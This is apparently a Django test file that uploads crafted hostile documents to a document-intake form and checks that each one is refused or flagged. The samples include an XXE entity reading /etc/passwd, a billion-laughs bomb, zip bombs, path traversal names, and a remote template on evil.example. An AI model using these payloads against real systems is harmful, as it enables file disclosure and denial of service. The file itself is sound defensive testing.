"""Hostile files through the desk's own form: each is answered clearly in the reader's language, and the honest
ones beside them are read. The list is the one of the promises: F01 to F33.
"""

from __future__ import annotations

import html
import importlib.util
import io
import re
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType

from desk_people import YPRES, People
from django.core.files.uploadedfile import SimpleUploadedFile

from pobratim.documents import LIMITS
from pobratim.documents.fetching import Policy
from pobratim.record import incoming
from pobratim.record.rules import Role
from pobratim.web.desk.inbox.causes import key_of, note
from pobratim.web.wording.words import LANGUAGES, words_of

HONEST = "The mayor of Ypres, Katrien Desomer, received a delegation from Semey on 26 September 2025 ({})."
P = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"


def makers() -> ModuleType:
    """The makers of small documents that the tests of documents use."""
    path = Path(__file__).parent.parent / "documents" / "conftest.py"
    spec = importlib.util.spec_from_file_location("documents_conftest", path)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


MAKE = makers()


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def twice_named() -> bytes:
    out = io.BytesIO(MAKE.docx_of(P.format("Words.")))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr("word/document.xml", "<x/>")
    return out.getvalue()


def locked_pdf() -> bytes:
    key = b"<" + b"41" * 32 + b">"
    locked = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O %s /U %s /P -4 >> /ID [<00> <00>]" % (key, key)
    return MAKE.pdf_of([MAKE.lines_of("The mayor was there.")], trailer=locked)


def nested_flate(times: int) -> bytes:
    entries = b"/Filter [" + b"/FlateDecode " * times + b"]"
    return MAKE.pdf_of([[]], content=MAKE.flate(b" " * (LIMITS.pdf_stream + 10), times), entries=entries)


LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))
REMOTE = (
    '<Relationships xmlns="x"><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
PAGE = "<!doctype html><html><body><script>alert(1)</script><p>{}</p><p style='display:none'>Accept all.</p></body></html>"


def hostile() -> Iterator[tuple[str, str, bytes, str]]:
    """(row of the list, name, bytes, key of the cause or note; "!" before what is read and marked)."""
    docx, pdf, lines = MAKE.docx_of, MAKE.pdf_of, MAKE.lines_of
    yield "F01", "empty.txt", b"", "empty"
    yield "F02", "large.txt", b"a " * (LIMITS.file // 2 + 1), "too_large"
    yield "F03", "page.pdf", PAGE.format("Hello").encode(), "mismatch"
    yield "F03", "program.docx", b"MZ\x90\x00" + bytes(200), "mismatch"
    yield (
        "F04",
        "both.pdf",
        b"<html><body><p>Words.</p></body></html>\n%PDF-1.7\n1 0 obj\n<<>>\nendobj",
        "mismatch|broken",
    )
    yield "F04", "picture.gif", b"GIF89a=1;alert(1)//" + bytes(20), "mismatch"
    yield "F05", "../../etc/CON.pdf", b"MZ\x90\x00" + bytes(200), "mismatch"
    yield "F06", "\u202egnp.exe", b"MZ\x90\x00" + bytes(200), "mismatch"
    yield (
        "F07",
        "bomb.docx",
        docx(P.format("Words."), {"word/media/zeros.bin": bytes(LIMITS.part + 1)}),
        "bomb",
    )
    yield (
        "F08",
        "lying.docx",
        MAKE.with_declared_size(docx(P.format("words " * 50_000)), "word/document.xml", 1000),
        "broken",
    )
    yield "F09", "parts.docx", docx(P.format("Words."), {f"p/{i}": b"" for i in range(2_100)}), "bomb"
    yield "F09", "twice.docx", twice_named(), "broken"
    yield "F09", "outside.docx", docx(P.format("Words."), {"../evil.xml": b"x"}), "outside"
    yield "F10", "42.zip", zipped({"inner.zip": zipped({"inner.zip": zipped({"a": b"x"})})}), "mismatch"
    yield (
        "F11",
        "locked.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "password",
    )
    yield "F11", "locked.pdf", locked_pdf(), "password"
    yield "F12", "laughs.docx", docx(P.format("&l9;"), head=f"<!DOCTYPE w [{LAUGHS}]>"), "outside"
    yield (
        "F13",
        "quadratic.docx",
        docx(P.format("&b;" * 3000), head=f'<!DOCTYPE w [<!ENTITY b "{"a" * 60_000}">]>'),
        "outside",
    )
    yield (
        "F14",
        "file.docx",
        docx(P.format("&x;"), head='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        "outside",
    )
    yield "F14", "chunk.docx", docx(P.format("Words.") + "<w:altChunk/>"), "outside"
    yield (
        "F14",
        "template.docx",
        docx(P.format("Words."), {"word/_rels/settings.xml.rels": REMOTE.encode()}),
        "outside",
    )
    yield "F15", "deep.docx", docx("<w:x>" * 100_000 + "</w:x>" * 100_000), "outside|broken"
    yield (
        "F16",
        "macro.docm",
        docx(P.format(HONEST.format("macro")), {"word/vbaProject.bin": b"x"}),
        "!active",
    )
    yield (
        "F17",
        "hidden.docx",
        docx(
            P.format(HONEST.format("hidden"))
            + "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>Accept all.</w:t></w:r></w:p>"
        ),
        "!hidden",
    )
    yield "F19", "flate.pdf", nested_flate(3), "bomb"
    yield (
        "F21",
        "loop.pdf",
        pdf([lines("Words.")]).replace(b"/Kids [3 0 R]", b"/Kids [4 0 R]"),
        "broken|scan|slow|mismatch",
    )
    yield "F22", "pages.pdf", pdf([[]] * 2001), "pages"
    yield (
        "F23",
        "script.pdf",
        pdf([lines("The mayor met them.")], extra=b"/OpenAction << /S /JavaScript /JS (app.x) >>"),
        "!active",
    )
    yield "F24", "scan.pdf", pdf([[], []]), "scan"
    yield "F24", "half.pdf", pdf([lines("The mayor of the town was there."), []]), "!empty_pages"
    yield "F26", "cut.docx", docx(P.format("Words."))[:200], "broken"
    yield "F26", "stump.pdf", pdf([lines("Words.")])[:60], "broken"
    yield "F27", "active.html", PAGE.format(HONEST.format("script")).encode(), "!hidden"
    yield "F28", "nothing.html", b"<html><body><script>x()</script></body></html>", "no_text"
    yield "F29", "bytes.txt", b"Words. " + bytes(range(128, 256)) * 8, "mismatch|broken|other"
    yield "F31", "photo.jpg", b"\xff\xd8\xff\xe0" + bytes(20), "mismatch"


def neighbours() -> Iterator[tuple[str, bytes]]:
    yield "release.txt", HONEST.format("text").encode()
    yield "release", HONEST.format("no name").encode()
    yield "release.docx", MAKE.docx_of(P.format(HONEST.format("word")))
    yield (
        "release.pdf",
        MAKE.pdf_of([MAKE.lines_of("The mayor of Ypres met a delegation of Semey in May 2025.")]),
    )
    yield "release.html", PAGE.replace("Accept all.", "").format(HONEST.format("page")).encode()


def plain(text: str) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", text)).split())


def test_each_is_answered_and_the_honest_ones_are_read(people: People) -> None:
    from pobratim.cli.working import Worker

    bad, good = list(hostile()), list(neighbours())
    client = people.client(Role.CONTRIBUTOR)
    files = [SimpleUploadedFile(name, data, "application/octet-stream") for _, name, data, _ in bad]
    files += [SimpleUploadedFile(name, data, "application/octet-stream") for name, data in good]
    answer = client.post("/en/desk/inbox/new/", {"files": files, "text": "", "address": "", "side": YPRES})
    assert answer.status_code == 302
    batch = answer.headers["Location"].rstrip("/").rsplit("/", 1)[-1]
    Worker(Policy).run(until_empty=True)
    found = incoming.batch(batch)
    assert found is not None
    ends = {i.name: i for i in found[1]}
    assert len(ends) == len(bad) + len(good), "none was dropped silently"
    assert [ends[name].state for name, _ in good] == ["read"] * len(good)
    pages = {
        lang: plain(client.get(f"/{lang}/desk/inbox/batch/{batch}/").content.decode()) for lang in LANGUAGES
    }
    wrong = [told for row, name, _, wanted in bad for told in faults(row, ends[named(name)], wanted, pages)]
    assert wrong == []


def named(name: str) -> str:
    """As the desk shows a file's name; what turns its direction the framework has taken out by then."""
    return name.rsplit("/", 1)[-1].replace("\u202e", "")


def faults(row: str, end: incoming.Incoming, wanted: str, pages: dict[str, str]) -> Iterator[str]:
    """What is wrong with how a file of the list was answered."""
    if wanted.startswith("!"):
        if end.state not in ("read", "known"):
            yield f"{row} {end.name} was not read: {end.cause}"
        keys = [key_of(line, "notes")[0] for line in end.notes]
        if wanted[1:] not in keys:
            yield f"{row} {end.name}: {wanted} is not said, only {keys}"
        for lang in LANGUAGES:
            for said in (plain(note(words_of(lang), line)) for line in end.notes):
                if said not in pages[lang]:
                    yield f"{row} {end.name}: “{said}” is not on the page"
        return
    key, slots = key_of(end.cause)
    if end.state != "refused" or key not in wanted.split("|"):
        yield f"{row} {end.name}: {end.state}, {key}, {end.cause}"
        return
    for lang in LANGUAGES:
        if plain(words_of(lang).say(f"inbox.cause.{key}").format(**slots)) not in pages[lang]:
            yield f"{row} {end.name}: its cause is not on the page in {lang}"
    if end.cause in pages["kk"] or end.cause in pages["ru"]:
        yield f"{row} {end.name}: an English line among others"


def test_the_same_file_twice_is_one_source(people: People) -> None:
    from pobratim.cli.working import Worker

    client = people.client(Role.CONTRIBUTOR)
    files = [SimpleUploadedFile(f"{n}.txt", HONEST.format("same").encode()) for n in "ab"]
    answer = client.post("/en/desk/inbox/new/", {"files": files, "text": "", "address": "", "side": YPRES})
    Worker(Policy).run(until_empty=True)
    assert "1 known already" in plain(client.get(answer.headers["Location"]).content.decode())


def test_too_large_alone_is_said_at_once(people: People) -> None:
    client = people.client(Role.CONTRIBUTOR)
    large = SimpleUploadedFile("large.txt", b"a " * (LIMITS.file // 2 + 1))
    answer = client.post("/kk/desk/inbox/new/", {"files": [large], "text": "", "address": "", "side": YPRES})
    assert answer.status_code == 422 and "large.txt" in answer.content.decode()
